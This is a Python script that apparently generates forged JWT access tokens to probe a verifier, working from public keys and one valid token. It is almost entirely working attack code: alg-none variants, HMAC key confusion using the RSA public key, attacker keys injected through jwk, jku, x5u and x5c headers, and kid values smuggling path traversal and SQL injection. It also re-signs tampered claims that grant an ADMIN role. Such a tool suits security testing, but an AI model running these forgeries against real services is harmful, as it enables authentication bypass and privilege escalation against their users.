"""Forges access tokens as an attacker could: `jwt_forger.py <jwks.json> <token>`. Prints a name and a token, line by line.

What it has is what everybody has: the public keys, and a good token of its own.
"""

import base64
import hashlib
import hmac
import json
import sys

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from jwt.algorithms import ECAlgorithm, RSAAlgorithm

keys = json.load(open(sys.argv[1]))["keys"]
good = sys.argv[2]
header = jwt.get_unverified_header(good)
claims = jwt.decode(good, options={"verify_signature": False})
public = jwt.PyJWK(next(key for key in keys if key["kid"] == header["kid"])).key
own = rsa.generate_private_key(public_exponent=65537, key_size=2048)
curve = ec.generate_private_key(ec.SECP256R1())
signature = good.split(".")[2]


def part(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def show(name, token):
    print(name.replace(" ", "-"), token)


def signed(name, **changes):
    """By a key of the attacker's own, with another header."""
    show(name, jwt.encode(claims, own, "RS256", {**header, **changes}))


for spelling in ("none", "None", "NONE", "nOnE", ""):
    text = part({**header, "alg": spelling}) + "." + part(claims)
    show(f"alg '{spelling}' unsigned", text + ".")
    show(f"alg '{spelling}' with the old signature", text + "." + signature)

numbers = public.public_numbers()
secrets = {
    "PEM": public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo),
    "PKCS 1": public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
    "DER": public.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo),
    "modulus": numbers.n.to_bytes(256, "big"),
    "nothing": b"",
}
for name, secret in secrets.items():
    for algorithm, digest in (("HS256", hashlib.sha256), ("HS512", hashlib.sha512)):
        text = part({**header, "alg": algorithm}) + "." + part(claims)
        tag = base64.urlsafe_b64encode(hmac.new(secret, text.encode(), digest).digest()).rstrip(b"=").decode()
        show(f"{algorithm} by {name}", text + "." + tag)

jwk = {**json.loads(RSAAlgorithm.to_jwk(own.public_key())), "kid": header["kid"], "use": "sig", "alg": "RS256"}
signed("own key under the portal's name")
signed("own key in jwk", jwk=jwk)
signed("own key behind jku", jku="http://127.0.0.1:1/keys")
signed("own key behind x5u", x5u="http://127.0.0.1:1/key.pem")
signed("own key in x5c", x5c=["AAAA"])
signed("critical header", crit=["exp"])
for kid in ("other", "", "../../../../dev/null", "' OR 1=1 --", "\u0000", "k" * 4000):
    signed(f"kid {kid[:8]!r}".replace("\\x00", "NUL"), kid=kid)
show("without kid", jwt.encode(claims, own, "RS256", {"typ": "at+jwt"}))
for algorithm, key, more in (
        ("ES256", curve, {}), ("ES256", curve, {"jwk": json.loads(ECAlgorithm.to_jwk(curve.public_key()))}),
        ("RS512", own, {}), ("PS256", own, {})):
    # PyJWT signs by what the header says.
    show(f"{algorithm} {'with jwk' if more else 'by own key'}", jwt.encode(
        claims, key, algorithm, {**header, "alg": algorithm, **more}))
head, body, _ = good.split(".")
for name, change in {"later": {"exp": claims["exp"] + 9999}, "ADMIN": {"role": "ADMIN", "permissions": ["*"]},
                     "somebody": {"sub": "usr_x"}, "elsewhere": {"iss": "http://x", "aud": "http://x"}}.items():
    show(f"old signature, {name}", head + "." + part({**claims, **change}) + "." + signature)
show("signature twice", good + "." + signature)
show("standard base64", head + "." + body + "." + signature.replace("-", "+").replace("_", "/") + "=")
